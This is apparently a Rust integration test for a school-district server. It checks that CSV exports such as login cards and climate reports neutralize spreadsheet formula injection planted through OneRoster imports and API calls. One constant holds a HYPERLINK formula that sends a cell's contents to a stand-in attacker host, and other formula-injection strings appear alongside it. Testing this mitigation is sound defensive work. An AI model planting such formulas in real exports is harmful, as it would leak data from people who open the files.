//! Every CSV the server writes is safe to open in a spreadsheet: formulas planted in every text
//! field that can reach a CSV, through the API and through a OneRoster import, come out of every
//! export with a single quote in front (OWASP's rule), never as a live formula.

use crate::helpers::oneroster::{upload, Bundle};
use crate::helpers::*;
use diesel::prelude::*;
use securebase::db::schema::schools;
use securebase::seed::district_id;
use serde_json::{json, Value};

const DISTRICT_ADMIN: &str = "denise.whitfield";
const PLANTED: &str = r#"=HYPERLINK("http://evil.example/?c="&F2,"Click")"#;

/// A formula for each character that starts one.
fn formulas(tag: &str) -> [String; 6] {
    [
        format!("={tag}+1"),
        format!("+{tag}"),
        format!("-{tag}+2"),
        format!("@SUM({tag})"),
        format!("\t={tag}"),
        format!("\r={tag}"),
    ]
}

/// Checks no cell of `csv` is read as a formula, and that each of `planted` is in it,
/// neutralized.
fn assert_safe(what: &str, csv: &str, planted: &[String]) {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(csv.as_bytes());
    let mut cells = Vec::new();
    for record in reader.records() {
        for cell in record.unwrap().iter() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: a live formula {cell:?}"
            );
            cells.push(cell.to_owned());
        }
    }
    for p in planted {
        assert!(
            cells.contains(&format!("'{p}")),
            "{what}: {p:?} is not in the export, neutralized"
        );
    }
}

/// The rows of a OneRoster file with `column` set as `value` gives it for each row.
fn set_column(
    text: &str,
    column: &str,
    value: impl Fn(usize, &csv::StringRecord) -> Option<String>,
) -> String {
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let headers = reader.headers().unwrap().clone();
    let at = headers.iter().position(|h| h == column).unwrap();
    let mut out = csv::Writer::from_writer(Vec::new());
    out.write_record(&headers).unwrap();
    for (i, record) in reader.records().enumerate() {
        let record = record.unwrap();
        let mut fields: Vec<String> = record.iter().map(str::to_owned).collect();
        if let Some(v) = value(i, &record) {
            fields[at] = v;
        }
        out.write_record(&fields).unwrap();
    }
    String::from_utf8(out.into_inner().unwrap()).unwrap()
}

#[test]
fn formulas_planted_through_a_oneroster_import_and_the_api_reach_no_export_alive() {
    let app = TestApp::spawn();
    let admin = app.login(DISTRICT_ADMIN);
    let district = district_id("Maple Valley Unified School District");

    // Through a OneRoster import: every student's names, a school's name, a class's title.
    let mut planted: Vec<String> = Vec::new();
    let mut bundle = Bundle::sample();
    let users = bundle.text("users.csv");
    let role_at = |r: &csv::StringRecord| r.get(5).unwrap() == "student";
    let users = set_column(&users, "givenName", |i, r| {
        role_at(r).then(|| {
            if i % 2 == 0 {
                PLANTED.to_owned()
            } else {
                formulas("g")[i % 6].clone()
            }
        })
    });
    let users = set_column(&users, "familyName", |i, r| {
        role_at(r).then(|| formulas(&format!("f{i}"))[i % 6].clone())
    });
    bundle.set("users.csv", users.clone());
    let orgs = set_column(&bundle.text("orgs.csv"), "name", |_, r| {
        (r.get(0).unwrap() == "org-cfms").then(|| "@school".to_owned())
    });
    bundle.set("orgs.csv", orgs);
    let class_titles = set_column(&bundle.text("classes.csv"), "title", |_, _| {
        Some("=class".to_owned())
    });
    bundle.set("classes.csv", class_titles);
    let r = upload(&app, &admin, &district, &bundle);
    assert_eq!(r.status, 200, "{}", r.text);
    let mut conn = app.conn();
    let cfms: String = schools::table
        .filter(schools::source_id.eq("org-cfms"))
        .select(schools::id)
        .first(&mut conn)
        .unwrap();

    // Through the API: students created with formulas for names, in the same school and grade.
    for (given, family) in [("+1", "-1"), ("@me", "=x")] {
        let r = app.post(
            "/api/v1/users",
            Some(&admin),
            &json!({"username": format!("planted.{}", given.len() + family.len() + planted.len()),
                    "role": "student", "school_id": cfms, "grade": 6,
                    "given_name": given, "family_name": family}),
        );
        assert_eq!(r.status, 201, "{}", r.text);
        planted.extend([given.to_owned(), family.to_owned()]);
    }
    let r = app.patch(
        &format!("/api/v1/schools/{cfms}"),
        Some(&admin),
        &json!({"name": "-Cedar Falls"}),
    );
    assert_eq!(r.status, 200, "{}", r.text);

    // The login cards of grade 6: every name on them is neutralized.
    let r = app.request(
        "POST",
        &format!("/api/v1/schools/{cfms}/activation-codes?format=csv"),
        Some(&admin),
        &[("Content-Type", "application/json")],
        Some(json!({ "grade": 6 }).to_string().as_bytes()),
    );
    assert_eq!(r.status, 201, "{}", r.text);
    let cards = r.text.clone();
    assert!(cards.lines().count() > 5, "{cards}");
    assert_safe("login cards", &cards, &planted);
    assert!(
        cards.contains(&format!("'{PLANTED}").replace('"', "\"\"")),
        "{cards}"
    );

    // The report exports of a closed window (ids, numbers and names of the published vocabulary
    // only, but written by the same writer): no live formula either.
    let windows = app
        .get("/api/v1/survey-windows?limit=200", Some(&admin))
        .json();
    let closed: Vec<&Value> = windows["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|w| w["state"] == "closed")
        .collect();
    assert!(!closed.is_empty());
    for w in closed {
        let window = w["id"].as_str().unwrap();
        let path = format!(
            "/api/v1/reports/districts/{district}/climate?window_id={window}&breakdown=schools&format=csv"
        );
        let r = app.get(&path, Some(&admin));
        assert_eq!(r.status, 200, "{}", r.text);
        assert_safe("district report", &r.text, &[]);
    }
}
